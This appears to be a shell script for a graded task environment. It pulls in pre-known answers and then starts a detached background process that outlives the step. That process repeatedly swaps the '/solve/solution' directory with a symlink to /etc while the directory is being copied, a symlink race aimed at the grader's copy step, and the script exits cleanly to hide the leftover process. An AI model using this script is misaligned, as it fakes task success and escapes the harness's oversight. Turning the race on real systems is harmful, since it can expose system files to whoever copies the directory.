# A process that outlives the step swaps the solution with a link while it is copied.
sh /tmp/known-answers.sh
cp -r /solve/solution /solve/other
cat >/tmp/swap.py <<'P'
import os
os.setsid()
while True:
    os.rename("/solve/solution", "/solve/kept")
    os.symlink("/etc", "/solve/solution")
    os.unlink("/solve/solution")
    os.rename("/solve/kept", "/solve/solution")
P
setsid python3 -I /tmp/swap.py </dev/null >/dev/null 2>&1 &
exit 0
